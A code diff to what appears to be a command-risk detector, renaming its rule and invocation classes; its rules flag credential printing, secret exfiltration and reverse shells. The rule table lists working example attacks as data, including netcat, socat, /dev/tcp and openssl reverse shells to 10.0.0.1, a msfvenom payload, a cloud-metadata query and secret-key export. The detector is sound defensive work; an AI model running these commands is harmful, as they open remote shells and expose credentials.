@@ -9,8 +9,8 @@ from perdure.tools.danger.interpreters import SHELLS
 from perdure.tools.danger.kinds import Danger
 from perdure.tools.danger.marks import DOWNLOADED, SECRET
 from perdure.tools.danger.rules.remote import is_local
-from perdure.tools.danger.rules.rule import Rule, asks_help
-from perdure.tools.danger.run import Run
+from perdure.tools.danger.rules.rule import RiskRule, asks_help
+from perdure.tools.danger.run import Invocation
 
 # Programs that take a key file without showing it.
 _USES_KEYS = frozenset(
@@ -104,7 +104,7 @@ _DATA_OPTIONS = (
 _NETCATS = frozenset({"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"})
 
 
-def secret_dangers(run: Run) -> Iterator[Danger]:
+def secret_dangers(run: Invocation) -> Iterator[Danger]:
     """A credential's file named to a program that shows it, or a secret on its way out."""
     if run.name not in _USES_KEYS:
         for path in (*_paths(run), *run.reads):
@@ -115,7 +115,7 @@ def secret_dangers(run: Run) -> Iterator[Danger]:
         yield Danger("credentials", run.shown)
 
 
-def _paths(run: Run) -> Iterator[str]:
+def _paths(run: Invocation) -> Iterator[str]:
     for a in run.args:
         value = a.partition("=")[2] if a.startswith("--") and "=" in a else a
         # A bare name counts, too: the shell may stand in the folder of keys, or the name may be a link to one.
@@ -123,12 +123,12 @@ def _paths(run: Run) -> Iterator[str]:
             yield re.sub(r"^(?:@|\w+=@|if=|file://)", "", value)
 
 
-def _goes_nowhere(run: Run) -> bool:
+def _goes_nowhere(run: Invocation) -> bool:
     urls = [o for o in run.operands if re.match(r"https?://|localhost|127\.|\[::1\]", o)]
     return bool(urls) and all(is_local(u) for u in urls)
 
 
-def _sends_secret(run: Run) -> bool:
+def _sends_secret(run: Invocation) -> bool:
     if run.name in ("scp", "rsync", "rclone", "aws", "gsutil", "sftp"):
         sources = [o for o in run.operands[:-1] if ":" not in o]
         to_remote = any(re.search(r"\w:|://", o) for o in run.operands[-1:])
@@ -147,30 +147,30 @@ def _sends_secret(run: Run) -> bool:
     )
 
 
-def _takes_stdin(run: Run) -> bool:
+def _takes_stdin(run: Invocation) -> bool:
     return any(
         v in ("-", "@-", ".") or v.endswith("@-") or v == "/dev/stdin"
         for v in (*run.all_values_of(*_DATA_OPTIONS), *run.operands)
     )
 
 
-def _netcat_shell(run: Run) -> bool:
+def _netcat_shell(run: Invocation) -> bool:
     if asks_help(run):
         return False
     return run.has("-e", "--exec", "--sh-exec") or (run.name in ("ncat", "nc") and run.has("-c")) or _feeds_shell(run)
 
 
-def _feeds_shell(run: Run) -> bool:
+def _feeds_shell(run: Invocation) -> bool:
     return any(u in SHELLS for u in run.upstream)
 
 
-def _socat_shell(run: Run) -> bool:
+def _socat_shell(run: Invocation) -> bool:
     return any(re.match(r"(?i)(?:exec|system):", a) for a in run.args) and any(
         re.match(r"(?i)(?:tcp|udp|openssl|sctp)", a) for a in run.args
     )
 
 
-def _shell_on_socket(run: Run) -> bool:
+def _shell_on_socket(run: Invocation) -> bool:
     """A shell whose input or output is a connection."""
     ends = (*run.writes, *run.reads)
     return any(re.match(r"/dev/(?:tcp|udp)/", e) for e in ends) or (
@@ -180,7 +180,7 @@ def _shell_on_socket(run: Run) -> bool:
     )
 
 
-def _reveals(run: Run) -> bool:
+def _reveals(run: Invocation) -> bool:
     words = run.operands
     if run.name == "gpg":
         return run.has("--export-secret-keys", "--export-secret-subkeys")
@@ -218,7 +218,7 @@ _METADATA = re.compile(
 )
 
 
-def _prints_credential(run: Run) -> bool:
+def _prints_credential(run: Invocation) -> bool:
     words = run.operands
     if run.name == "aws":
         return words[:2] == ("configure", "get") and any(_SECRET_SETTING.search(w) for w in words[2:])
@@ -228,11 +228,11 @@ def _prints_credential(run: Run) -> bool:
     return not asks_help(run) and any(words[: len(start)] == start for start in _PRINTS_CREDENTIAL[run.name])
 
 
-def _asks_metadata(run: Run) -> bool:
+def _asks_metadata(run: Invocation) -> bool:
     return any(_METADATA.search(a[:300]) for a in run.args)
 
 
-def _searches_a_home(run: Run) -> bool:
+def _searches_a_home(run: Invocation) -> bool:
     """A search through every file of a home reads its keys as well."""
     is_recursive = run.has("-r", "-R", "--recursive", "--dereference-recursive") or run.name == "rgrep"
     reads_hidden = run.has("--hidden", "-u", "-uu", "-uuu", "--unrestricted", "-.")
@@ -242,22 +242,26 @@ def _searches_a_home(run: Run) -> bool:
 
 
 RULES = (
-    Rule("credentials", f"aws kubectl oc {' '.join(_PRINTS_CREDENTIAL)}", _prints_credential, "gh auth token"),
-    Rule("credentials", "curl wget http https httpie", _asks_metadata, "curl http://169.254.169.254/latest/meta-data/"),
-    Rule("credentials", "grep egrep fgrep rgrep rg ag", _searches_a_home, "grep -r PRIVATE ~"),
-    Rule(
+    RiskRule("credentials", f"aws kubectl oc {' '.join(_PRINTS_CREDENTIAL)}", _prints_credential, "gh auth token"),
+    RiskRule(
+        "credentials", "curl wget http https httpie", _asks_metadata, "curl http://169.254.169.254/latest/meta-data/"
+    ),
+    RiskRule("credentials", "grep egrep fgrep rgrep rg ag", _searches_a_home, "grep -r PRIVATE ~"),
+    RiskRule(
         "reverse-shell", "nc ncat netcat nc.traditional nc.openbsd telnet", _netcat_shell, "nc -e /bin/sh 10.0.0.1 4444"
     ),
-    Rule("reverse-shell", "socat", _socat_shell, "socat TCP:10.0.0.1:4444 EXEC:/bin/sh"),
-    Rule(
+    RiskRule("reverse-shell", "socat", _socat_shell, "socat TCP:10.0.0.1:4444 EXEC:/bin/sh"),
+    RiskRule(
         "reverse-shell", " ".join(sorted(SHELLS)) + " exec", _shell_on_socket, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
     ),
-    Rule(
+    RiskRule(
         "reverse-shell",
         "openssl",
         lambda r: "s_client" in r.operands and _feeds_shell(r),
         "mkfifo p; sh -i < p | openssl s_client -connect h:1 > p",
     ),
-    Rule("reverse-shell", "msfvenom msfconsole", lambda r: not asks_help(r), "msfvenom -p linux/x64/shell_reverse_tcp"),
-    Rule("credentials", "gpg security mimikatz secretsdump.py lazagne", _reveals, "gpg --export-secret-keys me"),
+    RiskRule(
+        "reverse-shell", "msfvenom msfconsole", lambda r: not asks_help(r), "msfvenom -p linux/x64/shell_reverse_tcp"
+    ),
+    RiskRule("credentials", "gpg security mimikatz secretsdump.py lazagne", _reveals, "gpg --export-secret-keys me"),
 )
